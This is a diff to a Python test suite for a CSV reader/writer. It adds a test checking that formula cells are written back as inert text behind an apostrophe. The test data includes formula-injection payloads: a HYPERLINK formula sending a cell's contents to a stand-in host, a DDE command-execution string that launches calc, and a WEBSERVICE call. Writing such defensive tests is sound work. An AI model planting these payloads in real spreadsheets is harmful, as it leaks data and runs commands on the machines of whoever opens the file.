@@ -186,7 +186,10 @@ def test_a_large_table_is_read_and_written_in_little_memory(tmp_path):
     assert peak < len(out) + 5_000_000
 
 
-any_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
+# Formulas become text (see below).
+any_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")).filter(
+    lambda text: text.lstrip()[:1] not in ("=", "@", "+", "-") or not text.strip()
+)
 
 
 @given(st.lists(any_text, min_size=1, max_size=5), st.sampled_from([",", ";", "\t", "|"]))
@@ -200,3 +203,25 @@ def test_any_cell_comes_back_exactly(tmp_path_factory, cells, delimiter):
     assert [d.text for d in format.read(origin)] == [cell for cell in cells if cell]
     done = (finished(document) for document in format.read(origin))
     assert write(format, done, path.with_name("out.csv"), origin)[1] == path.read_bytes()
+
+
+def test_formulas_become_text_and_nothing_else_does(tmp_path):
+    """What would be computed on the machine of whoever opens the table."""
+    formulas = (
+        '=HYPERLINK("http://x.example/?"&A1)',
+        "@SUM(1+1)",
+        "-2+3+cmd|' /C calc'!A0",
+        "+WEBSERVICE(A1)",
+        " =1+1",
+    )
+    others = ("-5", "+49 (0)30 901820", "@amara said (hello)", "- came home (late)", "a=b", "1-2")
+    table = "note,reply\n" + "".join(f'"{cell.replace(chr(34), chr(34) * 2)}",yes\n' for cell in (*formulas, *others))
+    format, origin = CsvFormat(), source(table.encode(), "t.csv")
+    report, data = write(format, map(finished, documents(format.read(origin))), tmp_path / "o.csv", origin)
+    cells = [row[0] for row in csv.reader(data.decode().splitlines())][1:]
+    assert cells == [*("'" + formula for formula in formulas), *others]
+    assert report.notes == ["t.csv: cells that were formulas and are text now, behind an apostrophe: 5"]
+    # Written once more, nothing changes, and the documents are the same: a vault knows them.
+    again = source(data, "t.csv")
+    assert [d.text for d in documents(format.read(again))] == [d.text for d in documents(format.read(origin))]
+    assert write(format, map(finished, documents(format.read(again))), tmp_path / "o2.csv", again)[1] == data
